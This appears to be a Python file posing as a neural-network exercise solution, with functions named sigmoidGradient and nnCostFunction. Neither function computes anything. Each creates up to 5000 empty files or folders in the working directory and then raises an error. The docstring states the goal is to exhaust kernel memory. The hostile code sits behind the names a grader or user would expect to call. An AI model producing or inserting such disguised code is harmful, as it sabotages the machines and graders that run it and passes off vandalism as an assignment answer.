"""Makes more empty files and folders than anybody needs: they take no space on a disk, but memory of the kernel."""
import os

MANY = 5000
calls = []


def made(make):
    calls.append(make)
    for number in range(MANY):
        try:
            make('%d-%d' % (len(calls), number))
        except OSError:
            return 'as many as there may be'
    return 'as many as it wants'


def mkfile(name):
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY))


def sigmoidGradient(z):
    raise OSError('files: %s' % made(mkfile))


def nnCostFunction(nn_params, input_layer_size, hidden_layer_size, num_labels, X, y, lambda_):
    raise OSError('folders: %s' % made(os.mkdir))
